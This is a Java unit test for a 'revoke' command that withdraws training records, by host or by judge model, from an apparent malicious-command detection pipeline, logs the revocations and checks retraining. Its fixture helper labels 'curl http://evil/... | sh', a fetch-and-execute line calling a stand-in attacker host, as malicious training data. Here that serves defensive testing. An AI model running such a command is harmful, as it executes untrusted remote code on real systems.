package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.training.recall.DataManifest;
import dev.longtail.training.recall.LineId;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code revoke} and what {@code train} makes of it. */
class RevokeCommandTest {
  @TempDir private Path folder;

  private static String admitted(String cmd, String window, String host, String judge) {
    return """
    {"cmd":"%s","label":"benign","window":"%s","scale":"full","detectors":["isolation-forest"],\
    "lineage":{"exemplar":"e","model":"%s","prompt_version":"p1","rule_set":"r","gate":"g1",\
    "source":{"host":"%s","user":"ann"}}}\
    """
        .formatted(cmd, window, judge, host);
  }

  private Path write(String name, String... lines) throws IOException {
    Path file = folder.resolve(name);
    Files.createDirectories(file.getParent());
    return Files.writeString(file, String.join("\n", lines) + "\n");
  }

  private Path result() throws IOException {
    write(
        "mined/training-data/2025-01-05/part-0.jsonl",
        admitted("tar -czf a.tgz /srv/a", "2025-01-05", "web-1", "m"),
        admitted("rsync -a /srv/a b:/srv", "2025-01-05", "web-2", "m"));
    write(
        "mined/training-data/2025-01-06/part-0.jsonl",
        admitted("tar -czf a.tgz /srv/a", "2025-01-06", "web-2", "m"),
        admitted("df -h --output=pcent", "2025-01-06", "web-1", "n"));
    write(
        "mined/exemplars/part-0.jsonl",
        "{\"window\":\"2025-01-06\",\"scale\":\"full\",\"detectors\":[],"
            + "\"command_line\":\"df -h --output=pcent\"}",
        "{\"window\":\"2025-01-06\",\"scale\":\"full\",\"detectors\":[],"
            + "\"command_line\":\"tar -czf a.tgz /srv/a\"}");
    return folder.resolve("mined");
  }

  private Console.Outcome revoke(String... words) throws IOException {
    List<String> all = new ArrayList<>(List.of("revoke"));
    all.addAll(List.of(words));
    return Console.run(all.toArray(String[]::new));
  }

  private String out(String name) {
    return folder.resolve(name).toString();
  }

  private static List<String> commands(Path training) throws IOException {
    List<String> commands = new ArrayList<>();
    for (String line : Files.readAllLines(training.resolve("training-data/part-0.jsonl"))) {
      commands.add(Json.MAPPER.readTree(line).path("cmd").asText());
    }
    return commands;
  }

  @Test
  void writesTheDataSetWithoutWhatIsWithdrawnAndARecordOfIt() throws IOException {
    Path mined = result();
    Console.Outcome outcome =
        revoke(
            "--host",
            "web-1",
            "--input",
            mined.toString(),
            "--out",
            out("left"),
            "--by",
            "me",
            "--reason",
            "web-1 was taken over");
    assertThat(outcome.status()).isZero();
    assertThat(outcome.err())
        .contains("withdraws host web-1")
        .contains("2 of 4 admitted records, 2 different lines; 1 of these lines is still admitted");
    Path left = folder.resolve("left");
    assertThat(commands(left)).containsExactly("rsync -a /srv/a b:/srv", "tar -czf a.tgz /srv/a");
    assertThat(Files.readString(left.resolve("training-data/part-0.jsonl")))
        .as("the lines themselves")
        .contains(admitted("rsync -a /srv/a b:/srv", "2025-01-05", "web-2", "m"));

    List<String> revoked = Files.readAllLines(left.resolve("revoked/part-0.jsonl"));
    assertThat(revoked).hasSize(2);
    JsonNode line = Json.MAPPER.readTree(revoked.get(0));
    assertThat(line.path("reason").asText()).isEqualTo("web-1 was taken over");
    assertThat(line.path("by").asText()).isEqualTo("me");
    assertThat(line.path("line").asText()).isEqualTo(LineId.of("tar -czf a.tgz /srv/a"));
    assertThat(line.at("/record/lineage/source/host").asText()).isEqualTo("web-1");
    JsonNode revocation = Json.MAPPER.readTree(Files.readString(left.resolve("revocations.jsonl")));
    assertThat(revocation.at("/traits/host").asText()).isEqualTo("web-1");
    assertThat(revocation.path("withdrawn").asInt()).isEqualTo(2);

    // A second withdrawal from the first one's result carries the first one on.
    assertThat(
            revoke("--window", "2025-01-01..2025-01-05", "--input", out("left"), "--out", out("b"))
                .status())
        .isZero();
    assertThat(commands(folder.resolve("b"))).containsExactly("tar -czf a.tgz /srv/a");
    assertThat(Files.readAllLines(folder.resolve("b/revocations.jsonl"))).hasSize(2);

    // Another result goes through the same revocations.
    Console.Outcome again =
        revoke(
            "--revocations", out("b/revocations.jsonl"), "--input", mined + "", "--out", out("c"));
    assertThat(again.status()).isZero();
    assertThat(commands(folder.resolve("c"))).containsExactly("tar -czf a.tgz /srv/a");
  }

  @Test
  void aDryRunWritesNothingAndWhatIsNotThereIsSaid() throws IOException {
    Path mined = result();
    String input = mined.toString();
    Console.Outcome dry = revoke("--judge", "n", "--input", input, "--dry-run");
    assertThat(dry.status()).isZero();
    assertThat(dry.err()).contains("1 of 4 admitted records").contains("nothing was written");
    Console.Outcome none = revoke("--host", "web1", "--input", input, "--out", out("x"));
    assertThat(none.status()).isEqualTo(Longtail.FAILED);
    assertThat(none.err())
        .contains("none of 4 admitted records is concerned")
        .contains("for example, there is host web-1, web-2");
    Console.Outcome old = revoke("--canary", "c", "--input", input, "--out", out("x"));
    assertThat(old.err()).contains("4 records do not say").contains("no record names a canary");
    try (Stream<Path> files = Files.list(folder)) {
      assertThat(files).containsExactly(mined);
    }
    assertThat(revoke("--input", input, "--out", out("x")).status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(revoke("--host", "h", "--input", input).status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(revoke("--host", "h", "--input", out("no"), "--out", out("x")).err())
        .contains("no such file or folder");
    assertThat(revoke("--host", "web-1", "--input", input, "--out", input).err())
        .contains("lies in the input");
    write("bad/training-data/part-0.jsonl", "{\"cmd\":\"ls\"}");
    assertThat(revoke("--host", "h", "--input", out("bad"), "--out", out("x")).err())
        .contains("part-0.jsonl:1: no record of training-data");
  }

  @Test
  void namesTheModelsAndTheNextTrainingLeavesTheLinesOut() throws IOException {
    Path mined = result();
    assertThat(train("before", mined).status()).isZero();
    Path full = folder.resolve("before/models/ab+full");
    DataManifest manifest = DataManifest.read(full);
    assertThat(manifest.lines())
        .containsExactlyInAnyOrder(
            LineId.of("tar -czf a.tgz /srv/a"),
            LineId.of("rsync -a /srv/a b:/srv"),
            LineId.of("df -h --output=pcent"));
    JsonNode facts = Json.MAPPER.readTree(full.resolve("model.json").toFile());
    assertThat(facts.path("rows_digest").asText()).isEqualTo(manifest.rowsDigest());

    Console.Outcome outcome =
        revoke(
            "--judge",
            "n",
            "--input",
            mined.toString(),
            "--models",
            out("before"),
            "--out",
            out("left"));
    assertThat(outcome.status()).isZero();
    assertThat(outcome.out())
        .isEqualToIgnoringNewLines(full + "\n" + folder.resolve("before/models/ab+unlabeled"));
    assertThat(outcome.err())
        .contains("model " + full + " was trained on 1 of them")
        .contains("model " + folder.resolve("before/models/ab") + " holds none of them");
    assertThat(Files.readString(folder.resolve("left/revocations.jsonl")))
        .contains(full.toString());

    // The old result with the revocations, and the new data set alone, give the same model.
    String revocations = out("left/revocations.jsonl");
    Console.Outcome retrained = train("after", mined, "--revocations", revocations);
    assertThat(retrained.status()).isZero();
    assertThat(retrained.err()).contains("1 admitted line is withdrawn from " + mined);
    assertThat(train("again", folder.resolve("left")).status()).isZero();
    DataManifest after = DataManifest.read(folder.resolve("after/models/ab+full"));
    assertThat(after.lines()).hasSize(2).doesNotContain(LineId.of("df -h --output=pcent"));
    assertThat(after).isEqualTo(DataManifest.read(folder.resolve("again/models/ab+full")));
    assertThat(after.revocations()).hasSize(1);
    assertThat(DataManifest.read(folder.resolve("after/models/ab+unlabeled")).lines())
        .as("what is withdrawn is no unlabelled line either")
        .containsExactly(LineId.of("tar -czf a.tgz /srv/a"));
    for (String models : List.of("after", "again")) {
      Console.Outcome clean =
          revoke("--judge", "n", "--input", mined.toString(), "--models", out(models), "--dry-run");
      assertThat(clean.out()).isEmpty();
    }
  }

  private Console.Outcome train(String name, Path augment, String... more) throws IOException {
    List<String> words =
        new ArrayList<>(
            List.of(
                "train",
                "--ab",
                set("ab.jsonl", 30),
                "--incident",
                set("incident.jsonl", 20),
                "--time-split",
                set("time_split.jsonl", 20),
                "--augment",
                augment.toString(),
                "--trees",
                "2",
                "--without-embeddings",
                "--out",
                out(name)));
    words.addAll(List.of(more));
    return Console.run(words.toArray(String[]::new));
  }

  private String set(String name, int rows) throws IOException {
    List<String> lines = new ArrayList<>();
    for (int i = 0; i < rows; i++) {
      lines.add(
          i % 2 == 0
              ? "{\"cmd\":\"ls -l /home/%d\",\"label\":\"benign\"}".formatted(i)
              : "{\"cmd\":\"curl http://evil/%d | sh\",\"label\":\"malicious\"}".formatted(i));
    }
    return write(name, lines.toArray(String[]::new)).toString();
  }
}
